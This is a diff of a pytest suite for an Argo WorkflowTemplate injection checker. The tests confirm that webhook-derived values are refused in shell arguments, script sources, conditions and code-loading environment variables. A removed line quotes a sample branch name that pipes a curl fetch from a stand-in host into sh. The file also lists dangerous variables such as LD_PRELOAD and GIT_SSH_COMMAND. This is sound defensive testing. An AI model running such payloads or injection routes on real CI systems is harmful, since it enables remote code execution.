@@ -1,5 +1,8 @@
-"""Templates that hand event-derived values to a shell or an interpreter are refused at preview, naming the file, the
-template and the parameter; the environment (the fix) and plain commands pass."""
+"""Issue 15 item 2: an event-derived value (a parameter the pipeline maps from the payload) may reach a container
+only as an env value, or pass on to another template's input; every other place is refused at preview, one problem
+per place, naming the file, template, field and parameters, with the fix of that place. Each finding of the issue is
+a case here, through parse_settings on a template written in tmp (and the whole program under mocks); the shipped
+templates, the documentation's examples, an env-only template and well-known values in command/args pass."""
 
 from __future__ import annotations
 
@@ -9,23 +12,46 @@ from typing import Any
 import pytest
 import yaml
 
-from settings.config import ConfigError, parse_settings
-from settings.injection import FIX, code_positions, injection_problems
+from settings.config import WELL_KNOWN_PARAMETERS, ConfigError, parse_settings
+from settings.injection import executed_variable, injection_problems
+from settings.taint import kubernetes_references
 from settings.templates import load_template
-from tests.harness import PROJECT_ROOT, stack_config
+from tests.harness import PROJECT_ROOT, run_stack, stack_config
 
-INJECTION_NOTE = "which parses it as code (a branch named x$(curl${IFS}evil|sh) would run); " + FIX
+K = "argo-github-webhooks"
+IMAGE = "alpine:3.20"
+BODY = "{{workflow.parameters.body}}"
+TITLE = "{{workflow.parameters.title}}"
+MAPPED = {"body": "head_commit.message", "title": "head_commit.id"}
+ENV_FIX = (
+    "pass it through the environment: env: [{name: TITLE, value: '<the tag>'}] on the container, and let the program "
+    "read the variable"
+)
+ARGV_FIX = (
+    "an argument is parsed by the program it goes to (a shell's -c, an interpreter's -e, git's -c, any option): "
+    f"{ENV_FIX}, e.g. \"$TITLE\" inside a shell script (never $(TITLE): Kubernetes pastes that into the argument)"
+)
+WHEN_FIX = (
+    "Argo evaluates the substituted condition (govaluate), so a quote in the value rewrites it: decide inside a step "
+    "that reads the value from its environment and exits non-zero to say no, and test its "
+    "{{steps.<name>.exitCode}} (outputs computed from the value carry it too)"
+)
+SOURCE_FIX = (
+    "read it from the script's environment: add env: [{name: TITLE, value: '<the tag>'}] to the script and use "
+    '"$TITLE" (shell) or os.environ["TITLE"] (Python) in the source'
+)
 
 
-def template_file(tmp_path: Path, templates: list[dict[str, Any]], parameters: tuple[Any, ...] = ("git_ref",)) -> Path:
+def write(tmp_path: Path, templates: list[dict[str, Any]], **spec: Any) -> Path:
     document = {
         "apiVersion": "argoproj.io/v1alpha1",
         "kind": "WorkflowTemplate",
         "metadata": {"name": "t"},
         "spec": {
             "entrypoint": templates[0]["name"],
-            "arguments": {"parameters": [p if isinstance(p, dict) else {"name": p} for p in parameters]},
+            "arguments": {"parameters": [{"name": name} for name in ("body", "title", "git_ref", "repository")]},
             "templates": templates,
+            **spec,
         },
     }
     path = tmp_path / "t.yaml"
@@ -33,22 +59,27 @@ def template_file(tmp_path: Path, templates: list[dict[str, Any]], parameters: t
     return path
 
 
-def refused(tmp_path: Path, templates: list[dict[str, Any]], **pipeline: Any) -> list[str]:
-    path = template_file(tmp_path, templates, pipeline.pop("declared", ("git_ref",)))
-    config = stack_config(pipelines=[{"name": "p", "template": str(path), "events": ["push"], **pipeline}])
+def config(path: Path, parameters: dict[str, str] | None = None) -> dict[str, str]:
+    pipeline = {"name": "p", "template": str(path), "events": ["push"], "parameters": MAPPED if parameters is None
+                else parameters}
+    return stack_config(pipelines=[pipeline])
+
+
+def refused(tmp_path: Path, templates: list[dict[str, Any]], **spec: Any) -> list[str]:
+    path = write(tmp_path, templates, **spec)
     with pytest.raises(ConfigError) as raised:
-        parse_settings(config, PROJECT_ROOT)
-    return raised.value.problems
+        parse_settings(config(path), PROJECT_ROOT)
+    prefix = f"{K}:pipelines[0] (p).template ({path}): "
+    assert all(problem.startswith(prefix) for problem in raised.value.problems), raised.value.problems
+    return [problem.removeprefix(prefix) for problem in raised.value.problems]
 
 
-def accepted(tmp_path: Path, templates: list[dict[str, Any]], **pipeline: Any) -> None:
-    path = template_file(tmp_path, templates, pipeline.pop("declared", ("git_ref",)))
-    config = stack_config(pipelines=[{"name": "p", "template": str(path), "events": ["push"], **pipeline}])
-    parse_settings(config, PROJECT_ROOT)
+def accepted(tmp_path: Path, templates: list[dict[str, Any]], **spec: Any) -> None:
+    parse_settings(config(write(tmp_path, templates, **spec)), PROJECT_ROOT)
 
 
 def container(command: list[str] | None = None, args: list[str] | None = None, **extra: Any) -> dict[str, Any]:
-    body: dict[str, Any] = {"image": "alpine:3.20", **extra}
+    body: dict[str, Any] = {"image": IMAGE, **extra}
     if command is not None:
         body["command"] = command
     if args is not None:
@@ -56,200 +87,351 @@ def container(command: list[str] | None = None, args: list[str] | None = None, *
     return body
 
 
-REF = "{{workflow.parameters.git_ref}}"
+def leaf(name: str = "leaf", source: str = "{{inputs.parameters.text}}") -> dict[str, Any]:
+    """A template that runs `sh -c` with its input `text` pasted into the script."""
+    return {"name": name, "inputs": {"parameters": [{"name": "text"}]}, "container": container(["sh", "-c", f"echo {source}"])}
 
 
-def test_a_script_source_with_an_event_value_is_refused_with_file_template_parameter_and_fix(tmp_path: Path) -> None:
-    found = refused(
-        tmp_path, [{"name": "build", "script": {"image": "alpine:3.20", "command": ["sh"], "source": f"echo {REF}"}}]
-    )
-    assert found == [
-        f"argo-github-webhooks:pipelines[0] (p).template ({tmp_path / 't.yaml'}): template 'build': script.source puts "
-        f"the event-derived parameter 'git_ref' ({REF}) into the script's source, {INJECTION_NOTE}"
-    ]
+def call(template: str, value: str, **step: Any) -> dict[str, Any]:
+    return {"name": "call", "template": template, "arguments": {"parameters": [{"name": "text", "value": value}]},
+            **step}
 
 
-@pytest.mark.parametrize(
-    ("command", "args", "where", "parsed_by"),
-    [
-        (["sh", "-c"], [f"git checkout {REF}"], "container.args[0]", "sh -c"),
-        (["sh", "-euc", f"echo {REF}"], None, "container.command[2]", "sh -c"),
-        (["/bin/bash"], ["-o", "pipefail", "-c", f"echo {REF}"], "container.args[3]", "bash -c"),
-        (None, ["ash", "-c", f"echo {REF}"], "container.args[2]", "ash -c"),
-        (["dash", "-ec", f"echo {REF}"], None, "container.command[2]", "dash -c"),
-        (["zsh", "-c", f"echo {REF}"], None, "container.command[2]", "zsh -c"),
-        (["ksh", "-c", f"echo {REF}"], None, "container.command[2]", "ksh -c"),
-        (["/usr/bin/env", "FOO=1", "sh", "-c", f"echo {REF}"], None, "container.command[4]", "sh -c"),
-        (["env", "-i", "bash", "-lc", f"echo {REF}"], None, "container.command[4]", "bash -c"),
-        (["busybox", "sh", "-c", f"echo {REF}"], None, "container.command[3]", "sh -c"),
-        (["timeout", "30", "sh", "-c", f"echo {REF}"], None, "container.command[4]", "sh -c"),
-        (["python3", "-c", f"print('{REF}')"], None, "container.command[2]", "python -c"),
-        (["node", "-e", f"console.log('{REF}')"], None, "container.command[2]", "node -e"),
-        (["perl", "-e", f"print '{REF}'"], None, "container.command[2]", "perl -e"),
-        (["awk", f"BEGIN {{ print \"{REF}\" }}"], None, "container.command[1]", "awk's program text"),
-        ([REF], None, "container.command[0]", "the command name"),
-    ],
-)
-def test_every_shell_shape_is_refused(
-    tmp_path: Path, command: list[str] | None, args: list[str] | None, where: str, parsed_by: str
-) -> None:
-    (problem,) = refused(tmp_path, [{"name": "run", "container": container(command, args)}])
-    assert f"template 'run': {where} puts the event-derived parameter 'git_ref' ({REF}) into {parsed_by}," in problem
+# --- The findings of issue 15, each refused -------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize(
-    ("reference", "parameter"),
-    [
-        ("{{ workflow.parameters.git_ref }}", "git_ref"),
-        ("{{=workflow.parameters.git_ref}}", "git_ref"),
-        ("{{=sprig.trim(workflow.parameters['git_ref'])}}", "git_ref"),
-        ("{{workflow.parameters.json}}", "git_ref"),
-    ],
-)
-def test_every_way_of_writing_the_reference_is_found(tmp_path: Path, reference: str, parameter: str) -> None:
-    (problem,) = refused(tmp_path, [{"name": "run", "container": container(["sh", "-c", f"echo {reference}"])}])
-    assert f"parameter {parameter!r} ({reference})" in problem
-
-
-def test_inputs_passed_on_by_steps_and_dags_are_followed(tmp_path: Path) -> None:
+def test_kubernetes_expansion_of_an_env_value_in_args_is_refused(tmp_path: Path) -> None:
     templates = [
-        {
-            "name": "main",
-            "steps": [
-                [{"name": "a", "template": "middle", "arguments": {"parameters": [{"name": "ref", "value": REF}]}}]
-            ],
-        },
-        {
-            "name": "middle",
-            "inputs": {"parameters": [{"name": "ref"}]},
-            "dag": {
-                "tasks": [
-                    {
-                        "name": "b",
-                        "template": "leaf",
-                        "arguments": {"parameters": [{"name": "branch", "value": "x-{{inputs.parameters.ref}}"}]},
-                    },
-                    {
-                        "name": "c",
-                        "template": "safe",
-                        "arguments": {"parameters": [{"name": "branch", "value": "{{inputs.parameters.ref}}"}]},
-                    },
-                ]
-            },
-        },
-        {
-            "name": "leaf",
-            "inputs": {"parameters": [{"name": "branch"}]},
-            "script": {"image": "alpine:3.20", "command": ["sh"], "source": "echo {{inputs.parameters.branch}}"},
-        },
-        {
-            "name": "safe",
-            "inputs": {"parameters": [{"name": "branch"}]},
-            "container": container(["sh", "-c", 'echo "$B"'], env=[{"name": "B", "value": "{{inputs.parameters.branch}}"}]),
-        },
+        {"name": "main", "container": container(["sh", "-c"], ['echo "$(COMMENT)"'], env=[{"name": "COMMENT", "value": BODY}])}
     ]
-    (problem,) = refused(tmp_path, templates)
-    assert "template 'leaf': script.source puts the event-derived parameter 'git_ref' " in problem
-    assert "({{inputs.parameters.branch}}, fed from 'git_ref')" in problem
-
-
-def test_items_of_a_loop_over_an_event_value_are_followed(tmp_path: Path) -> None:
-    templates = [
-        {
-            "name": "main",
-            "steps": [
-                [
-                    {
-                        "name": "each",
-                        "template": "leaf",
-                        "withParam": "{{workflow.parameters.files}}",
-                        "arguments": {"parameters": [{"name": "file", "value": "{{item.path}}"}]},
-                    }
-                ]
-            ],
-        },
-        {
-            "name": "leaf",
-            "inputs": {"parameters": [{"name": "file"}]},
-            "container": container(["sh", "-c", "cat {{inputs.parameters.file}}"]),
-        },
+    assert refused(tmp_path, templates) == [
+        "template 'main': container.args[0] expands $(COMMENT), which carries the event-derived parameter 'body': "
+        "Kubernetes pastes the value into the text before the program (or a shell) parses it; write \"$NAME\" inside "
+        "the shell script instead (the shell reads a variable's value as data), or $$(NAME) for the literal text"
     ]
-    (problem,) = refused(tmp_path, templates, declared=("files",), parameters={"files": "commits"})
-    assert "template 'leaf': container.command[2] puts the event-derived parameter 'files'" in problem
-
-
-def test_entrypoint_inputs_and_mapped_parameters_are_event_derived(tmp_path: Path) -> None:
-    templates = [
-        {
-            "name": "main",
-            "inputs": {"parameters": [{"name": "title"}]},
-            "container": container(["bash", "-c", "echo {{inputs.parameters.title}}"]),
-        }
-    ]
-    (problem,) = refused(tmp_path, templates, declared=(), parameters={"title": "head_commit.message"})
-    assert "template 'main': container.command[2] puts the event-derived parameter 'title'" in problem
-
-
-def test_init_containers_sidecars_probes_and_hooks_are_checked(tmp_path: Path) -> None:
-    shell = ["sh", "-c", f"echo {REF}"]
-    templates = [
-        {
-            "name": "main",
-            "container": container(["echo", "ok"], lifecycle={"postStart": {"exec": {"command": shell}}}),
-            "initContainers": [{"name": "clone", **container(shell)}],
-            "sidecars": [{"name": "side", **container(["sleep", "1"], readinessProbe={"exec": {"command": shell}})}],
-        }
-    ]
-    wheres = sorted(problem.split("': ")[1].split(" puts")[0] for problem in refused(tmp_path, templates))
-    assert wheres == [
-        "container.lifecycle.postStart.exec.command[2]",
-        "initContainers[clone].command[2]",
-        "sidecars[side].readinessProbe.exec.command[2]",
-    ]
-
-
-def test_the_environment_and_plain_arguments_pass(tmp_path: Path) -> None:
+    # Through another variable, and into a subPathExpr, too; $$(COMMENT) is literal text.
     templates = [
         {
             "name": "main",
             "container": container(
-                ["sh", "-c", 'git checkout "$REF" && echo "$1"', "sh", REF],  # positional: never parsed
-                env=[{"name": "REF", "value": REF}],
+                ["sh", "-c", "echo $$(COMMENT)", "$(SECOND)"],
+                env=[{"name": "COMMENT", "value": BODY}, {"name": "SECOND", "value": "x $(COMMENT)"}],
+                volumeMounts=[{"name": "w", "mountPath": "/w", "subPathExpr": "$(COMMENT)"}],
             ),
-            "initContainers": [{"name": "echo", **container(["echo", REF])}, {"name": "g", **container(["git"], [REF])}],
+            "volumes": [{"name": "w", "emptyDir": {}}],
+        }
+    ]
+    found = refused(tmp_path, templates)
+    assert [problem.split(" expands ")[0] for problem in found] == [
+        "template 'main': container.command[3]",
+        "template 'main': container.volumeMounts[w].subPathExpr",
+    ]
+    assert kubernetes_references("$(A) $$(B) $$$(C) $(D.E)") == ["A", "C", "D.E"]
+
+
+def test_a_workflow_level_hook_passing_an_event_value_is_followed(tmp_path: Path) -> None:
+    templates = [{"name": "main", "container": container(["true"])}, leaf("notify")]
+    hooks = {"running": {"expression": 'workflow.status == "Running"', "template": "notify",
+                         "arguments": {"parameters": [{"name": "text", "value": TITLE}]}}}
+    assert refused(tmp_path, templates, hooks=hooks) == [
+        "template 'notify': container.command[2] carries the event-derived parameter 'title' "
+        f"({{{{inputs.parameters.text}}}}); {ARGV_FIX}"
+    ]
+
+
+def test_step_level_hooks_and_dag_tasks_are_followed(tmp_path: Path) -> None:
+    templates = [
+        {
+            "name": "main",
+            "dag": {"tasks": [
+                {"name": "a", "template": "quiet", "hooks": {"exit": {"template": "loud", "arguments": {"parameters": [
+                    {"name": "text", "value": f"x-{BODY}"}]}}}},
+            ]},
+        },
+        {"name": "quiet", "container": container(["true"])},
+        leaf("loud"),
+    ]
+    (problem,) = refused(tmp_path, templates)
+    assert problem.startswith("template 'loud': container.command[2] carries the event-derived parameter 'body' ")
+
+
+def test_with_items_feeding_item_is_followed_and_item_elsewhere_refused(tmp_path: Path) -> None:
+    templates = [
+        {"name": "main", "steps": [[call("leaf", "{{item}}", withItems=[BODY, "fixed"], when="'{{item}}' != ''")]]},
+        leaf(),
+    ]
+    assert refused(tmp_path, templates) == [
+        f"template 'main': steps[0][call].when carries the event-derived parameter 'body' ({{{{item}}}}); {WHEN_FIX}",
+        "template 'leaf': container.command[2] carries the event-derived parameter 'body' "
+        f"({{{{inputs.parameters.text}}}}); {ARGV_FIX}",
+    ]
+
+
+def test_with_param_over_an_event_value_is_followed(tmp_path: Path) -> None:
+    templates = [{"name": "main", "steps": [[call("leaf", "{{item.path}}", withParam=BODY)]]}, leaf()]
+    (problem,) = refused(tmp_path, templates)
+    assert problem.startswith("template 'leaf': container.command[2] carries the event-derived parameter 'body' ")
+
+
+def test_pod_spec_patch_and_template_defaults_carrying_event_values_are_refused(tmp_path: Path) -> None:
+    templates = [{"name": "main", "container": container(["true"]), "podSpecPatch": '{"hostname": "' + TITLE + '"}'}]
+    found = refused(tmp_path, templates, templateDefaults={"metadata": {"labels": {"t": TITLE}}})
+    assert (
+        "the workflow spec: templateDefaults.metadata.labels.t carries the event-derived parameter 'title' "
+        f"({TITLE}); templateDefaults reach every template: {ENV_FIX} in the template that needs it"
+    ) in found
+    assert (
+        f"template 'main': podSpecPatch carries the event-derived parameter 'title' ({TITLE}); a pod spec is no place "
+        f"for a delivery's text (and podSpecPatch is refused anyway): {ENV_FIX}"
+    ) in found
+    assert any(problem.startswith("template 'main': podSpecPatch is not allowed") for problem in found)
+
+
+def test_when_conditions_are_refused(tmp_path: Path) -> None:
+    templates = [
+        {"name": "main", "steps": [[{"name": "a", "template": "b", "when": f"'{TITLE}' == 'release'"}]]},
+        {"name": "b", "container": container(["true"])},
+    ]
+    assert refused(tmp_path, templates) == [
+        f"template 'main': steps[0][a].when carries the event-derived parameter 'title' ({TITLE}); {WHEN_FIX}"
+    ]
+
+
+def test_step_outputs_computed_from_event_values_carry_them(tmp_path: Path) -> None:
+    templates = [
+        {
+            "name": "main",
+            "steps": [
+                [{"name": "compute", "template": "compute"}],
+                [call("leaf", "{{steps.compute.outputs.result}}"),
+                 {"name": "gate", "template": "compute", "when": "{{steps.compute.exitCode}} == 0"}],
+            ],
+        },
+        {
+            "name": "compute",
+            "script": {"image": IMAGE, "command": ["sh"], "source": 'echo "$TITLE" | tr a-z A-Z',
+                       "env": [{"name": "TITLE", "value": TITLE}]},
+        },
+        leaf(),
+    ]
+    # Passing the outputs on is allowed; the leaf pasting them into sh -c is not; the exit code is clean.
+    assert refused(tmp_path, templates) == [
+        "template 'leaf': container.command[2] carries the event-derived parameter 'title' "
+        f"({{{{inputs.parameters.text}}}}); {ARGV_FIX}"
+    ]
+
+
+@pytest.mark.parametrize(
+    "tag",
+    [
+        "{{=workflow.parameters['title']}}",
+        "{{=get(workflow.parameters, 'title')}}",
+        "{{=toJson(workflow.parameters)}}",
+        "{{=let p = workflow.parameters; p.title}}",
+        "{{=workflow?.parameters?.title}}",
+        "{{= workflow.parameters.title }}",
+        "{{ workflow.parameters.title }}",
+        "{{=$env['workflow.parameters.title']}}",
+        "{{=sprig.trim(workflow.parameters.title)}}",
+        "{{=workflow.parameters[lower('TITLE')]}}",
+        "{{=workflow.parameters.title[0:3]}}",
+        "{{=unparseable workflow ((}}",
+        "{{workflow.parameters.json}}",
+    ],
+)
+def test_every_way_of_reading_an_event_value_in_a_tag_is_found(tmp_path: Path, tag: str) -> None:
+    (problem,) = refused(tmp_path, [{"name": "main", "container": container(["sh", "-c", f"echo {tag}"])}])
+    assert problem.startswith("template 'main': container.command[2] carries the event-derived parameter")
+    assert "'title'" in problem and f"({tag})" in problem
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["python3", "-W", "ignore", "-c", f"print('{BODY}')"],
+        ["env", "-S", f"sh -c 'echo {BODY}'"],
+        ["find", ".", "-exec", "sh", "-c", f"echo {BODY}", ";"],
+        ["flock", "/tmp/l", "sh", "-c", f"echo {BODY}"],
+        ["script", "-qc", f"echo {BODY}", "/dev/null"],
+        ["git", "-c", f"alias.x=!{BODY}", "x"],
+        ["echo", BODY],
+        ["git", "checkout", BODY],
+    ],
+)
+def test_any_argument_is_refused_whatever_the_program(tmp_path: Path, argv: list[str]) -> None:
+    index = next(index for index, word in enumerate(argv) if BODY in word)
+    for templates, field in (
+        ([{"name": "main", "container": container(argv)}], f"container.command[{index}]"),
+        ([{"name": "main", "container": container(None, argv)}], f"container.args[{index}]"),  # image entrypoint
+    ):
+        assert refused(tmp_path, templates) == [
+            f"template 'main': {field} carries the event-derived parameter 'body' ({BODY}); {ARGV_FIX}"
+        ]
+
+
+def test_an_image_whose_entrypoint_is_a_shell_given_dash_c(tmp_path: Path) -> None:
+    templates = [{"name": "main", "container": container(None, ["-c", f"echo {TITLE}"])}]
+    assert refused(tmp_path, templates) == [
+        f"template 'main': container.args[1] carries the event-derived parameter 'title' ({TITLE}); {ARGV_FIX}"
+    ]
+
+
+def test_a_script_source_is_told_about_its_environment_not_sh_c(tmp_path: Path) -> None:
+    templates = [{"name": "main", "script": {"image": IMAGE, "command": ["python3"], "source": f"print('{TITLE}')"}}]
+    assert refused(tmp_path, templates) == [
+        f"template 'main': script.source carries the event-derived parameter 'title' ({TITLE}); {SOURCE_FIX}"
+    ]
+
+
+def test_one_problem_per_place_with_every_parameter_it_carries(tmp_path: Path) -> None:
+    templates = [{"name": "main", "container": container(["sh", "-c", f"echo {TITLE} {BODY}"], workingDir=f"/w/{BODY}")}]
+    assert refused(tmp_path, templates) == [
+        f"template 'main': container.command[2] carries the event-derived parameters 'body', 'title' ({TITLE}, "
+        f"{BODY}); {ARGV_FIX}",
+        f"template 'main': container.workingDir carries the event-derived parameter 'body' ({BODY}); paths must not "
+        "come from a delivery: use a fixed workingDir",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("body", "field", "fix"),
+    [
+        ({"resource": {"action": "create", "manifest": f"kind: ConfigMap\ndata: {{t: '{TITLE}'}}"}},
+         "resource.manifest", "a resource manifest is applied as written"),
+        ({"http": {"url": f"https://example.com/{TITLE}"}}, "http.url", "an http template sends the text as written"),
+        ({"data": {"source": {"artifactPaths": {"name": "a", "s3": {"key": TITLE}}}, "transformation": []}},
+         "data.source.artifactPaths.s3.key", "a data template's source"),
+        ({"container": container(["true"]), "outputs": {"artifacts": [{"name": "a", "path": "/a", "s3": {"key": TITLE}}]}},
+         "outputs.artifacts[a].s3.key", "artifact keys, URLs and paths"),
+        ({"container": container(["true"]), "synchronization": {"mutexes": [{"name": TITLE}]}},
+         "synchronization.mutexes[0].name", "a lock's name"),
+        ({"container": container(["true"]), "metadata": {"annotations": {"t": TITLE}}},
+         "metadata.annotations.t", "labels and annotations"),
+        ({"container": container(["true"], volumeMounts=[{"name": "v", "mountPath": f"/v/{TITLE}"}]),
+          "volumes": [{"name": "v", "emptyDir": {}}]}, "container.volumeMounts[v].mountPath", "paths must not come"),
+        ({"container": container(["true"], env=[{"name": TITLE, "value": "x"}])}, "container.env[0].name",
+         "a variable's name must be fixed"),
+    ],
+)
+def test_every_other_place_is_refused_with_its_fix(tmp_path: Path, body: dict[str, Any], field: str, fix: str) -> None:
+    (problem,) = refused(tmp_path, [{"name": "main", **body}])
+    assert problem.startswith(f"template 'main': {field} carries the event-derived parameter 'title' ({TITLE}); {fix}")
+
+
+@pytest.mark.parametrize("name", ["GIT_SSH_COMMAND", "GIT_CONFIG_VALUE_0", "BASH_ENV", "ENV", "LD_PRELOAD",
+                                  "PYTHONSTARTUP", "NODE_OPTIONS", "PERL5OPT", "RUBYOPT", "JAVA_TOOL_OPTIONS",
+                                  "PROMPT_COMMAND", "npm_config_script_shell"])
+def test_an_env_entry_programs_execute_is_refused(tmp_path: Path, name: str) -> None:
+    templates = [{"name": "main", "container": container(["git", "fetch"], env=[{"name": name, "value": BODY}])}]
+    assert refused(tmp_path, templates) == [
+        f"template 'main': container.env[{name}].value carries the event-derived parameter 'body' ({BODY}) into "
+        f"{name}, a variable programs execute or load code from (git runs GIT_SSH_COMMAND and reads GIT_CONFIG_*, "
+        "shells source BASH_ENV and ENV, the loader LD_*, interpreters their *OPTIONS and module paths): give it a "
+        "name no program acts on, and let the script use it as data"
+    ]
+
+
+def test_executed_variables() -> None:
+    assert all(executed_variable(name) for name in ("GIT_SSH_COMMAND", "LD_LIBRARY_PATH", "PYTHONPATH", "GOFLAGS"))
+    assert not any(executed_variable(name) for name in ("TITLE", "COMMENT", "GIT_REF", "PR_BODY", "REPOSITORY"))
+
+
+def test_a_template_ref_to_another_file_cannot_be_followed_and_one_to_this_file_is(tmp_path: Path) -> None:
+    other = [{"name": "main", "steps": [[{"name": "s", "templateRef": {"name": "shared", "template": "build"},
+                                          "arguments": {"parameters": [{"name": "text", "value": TITLE}]}}]]}]
+    assert refused(tmp_path, other) == [
+        f"template 'main': steps[0][s].arguments.parameters[text].value passes the event-derived parameter 'title' "
+        f"({TITLE}) to templateRef shared/build, which this check cannot follow: copy that template into this file "
+        "(a templateRef to the file's own name is followed), or pass only well-known values"
+    ]
+    own = [{"name": "main", "steps": [[{"name": "s", "templateRef": {"name": "t", "template": "leaf"},
+                                        "arguments": {"parameters": [{"name": "text", "value": TITLE}]}}]]}, leaf()]
+    (problem,) = refused(tmp_path, own)
+    assert problem.startswith("template 'leaf': container.command[2] carries the event-derived parameter 'title' ")
+
+
+def test_the_whole_program_refuses_before_registering_anything(tmp_path: Path) -> None:
+    path = write(tmp_path, [{"name": "main", "container": container(["sh", "-c", f"echo {TITLE}"])}])
+    with pytest.raises(ConfigError) as raised:
+        run_stack(config(path))
+    assert raised.value.problems == [
+        f"{K}:pipelines[0] (p).template ({path}): template 'main': container.command[2] carries the event-derived "
+        f"parameter 'title' ({TITLE}); {ARGV_FIX}"
+    ]
+
+
+# --- What keeps passing ---------------------------------------------------------------------------------------------
+
+
+def test_an_env_only_template_passes(tmp_path: Path) -> None:
+    templates = [
+        {"name": "main", "steps": [[call("build", TITLE)]]},
+        {
+            "name": "build",
+            "inputs": {"parameters": [{"name": "text"}]},
+            "outputs": {"parameters": [{"name": "out", "valueFrom": {"path": "/tmp/out"}}]},
+            "container": container(["sh", "-euc", 'echo "$TEXT $BODY" > /tmp/out'], env=[
+                {"name": "TEXT", "value": "{{inputs.parameters.text}}"},
+                {"name": "BODY", "value": BODY},
+                {"name": "BOTH", "value": "{{=workflow.parameters.title + workflow.parameters.body}}"},
+            ]),
+            "initContainers": [{"name": "i", **container(["true"], env=[{"name": "T", "value": TITLE}])}],
+        },
+    ]
+    accepted(tmp_path, templates)
+
+
+def test_well_known_values_and_clean_tags_may_go_anywhere(tmp_path: Path) -> None:
+    templates = [
+        {
+            "name": "main",
+            "container": container(
+                ["sh", "-c", "git fetch origin {{workflow.parameters.git_ref}} && echo {{workflow.name}}"],
+                ["{{=sprig.trim(workflow.parameters.git_ref)}}", "{{=workflow.parameters['repository']}}",
+                 "{{pod.name}} {{workflow.uid}} {{=workflow.annotations}}"],
+                workingDir="/src/{{workflow.parameters.repository}}",
+            ),
+            "synchronization": {"mutexes": [{"name": "{{workflow.parameters.repository}}"}]},
         }
     ]
     accepted(tmp_path, templates)
-    # A parameter the pipeline neither maps nor knows is not event-derived.
-    accepted(
-        tmp_path,
-        [{"name": "main", "container": container(["sh", "-c", "echo {{workflow.parameters.mode}}"])}],
-        declared=({"name": "mode", "value": "fast"},),
-    )
+    # A well-known name the pipeline maps itself is the pipeline's text, not GitHub's shape: event-derived.
+    path = write(tmp_path, templates)
+    with pytest.raises(ConfigError) as raised:
+        parse_settings(config(path, {**MAPPED, "git_ref": "head_commit.message"}), PROJECT_ROOT)
+    fields = [problem.split("): template 'main': ")[1].split(" carries")[0] for problem in raised.value.problems]
+    assert sorted(fields) == ["container.args[0]", "container.command[2]"]
 
 
-@pytest.mark.parametrize("template", ["workflows/hello-world.yaml", "workflows/secret-scan.yaml"])
-def test_the_shipped_templates_pass(template: str) -> None:
-    loaded = load_template(PROJECT_ROOT / template)
+@pytest.mark.parametrize("template", sorted(p.name for p in (PROJECT_ROOT / "workflows").glob("*.yaml")))
+def test_every_shipped_template_passes(template: str) -> None:
+    loaded = load_template(PROJECT_ROOT / "workflows" / template)
+    parse_settings(stack_config(pipelines=[{"name": "p", "template": f"workflows/{template}", "events": ["push"]}]),
+                   PROJECT_ROOT)
+    assert injection_problems(loaded, loaded.parameter_names - set(WELL_KNOWN_PARAMETERS)) == []
+
+
+def test_secret_scan_passes_even_with_every_parameter_event_derived() -> None:
+    """Stricter than any pipeline: its values reach the clone through env only, so even the delivery's own text
+    could stand in for the well-known values."""
+    loaded = load_template(PROJECT_ROOT / "workflows" / "secret-scan.yaml")
+    assert loaded.parameter_names >= {"git_url", "git_ref", "head_commit", "repository"}
     assert injection_problems(loaded, loaded.parameter_names) == []
 
 
-def test_the_readme_examples_pass(tmp_path: Path) -> None:
-    """Every WorkflowTemplate in docs/security.md's YAML blocks passes the check with all its parameters event-derived."""
-    readme = (PROJECT_ROOT / "docs" / "security.md").read_text()
-    blocks = [block.split("```", 1)[0] for block in readme.split("```yaml\n")[1:]]
+def test_the_docs_examples_pass(tmp_path: Path) -> None:
+    """Every WorkflowTemplate in docs/security.md's YAML blocks passes with all its parameters event-derived."""
+    text = (PROJECT_ROOT / "docs" / "security.md").read_text()
+    blocks = [block.split("```", 1)[0] for block in text.split("```yaml\n")[1:]]
     documents = [yaml.safe_load(block) for block in blocks if "kind: WorkflowTemplate" in block]
     assert documents, "docs/security.md shows a WorkflowTemplate"
     for index, document in enumerate(documents):
-        path = tmp_path / f"readme-{index}.yaml"
+        path = tmp_path / f"doc-{index}.yaml"
         path.write_text(yaml.safe_dump(document))
         loaded = load_template(path)
         assert injection_problems(loaded, loaded.parameter_names) == []
 
 
-def test_code_positions() -> None:
-    assert code_positions(["sh", "script.sh", "arg"]) == [(0, "the command name"), (1, "the shell's script path")]
-    assert code_positions(["sh", "-c", "cmd", "name", "arg"]) == [(0, "the command name"), (2, "sh -c")]
-    assert code_positions(["python", "-cprint(1)"]) == [(0, "the command name"), (1, "python -c")]
-    assert code_positions(["echo", "hello"]) == [(0, "the command name")]
-    assert code_positions([]) == []
+def test_a_parameter_no_pipeline_maps_is_not_event_derived(tmp_path: Path) -> None:
+    accepted(tmp_path, [{"name": "main", "container": container(["sh", "-c", "echo {{workflow.parameters.mode}}"])}],
+             arguments={"parameters": [{"name": "mode", "value": "fast"}, {"name": "body"}, {"name": "title"}]})
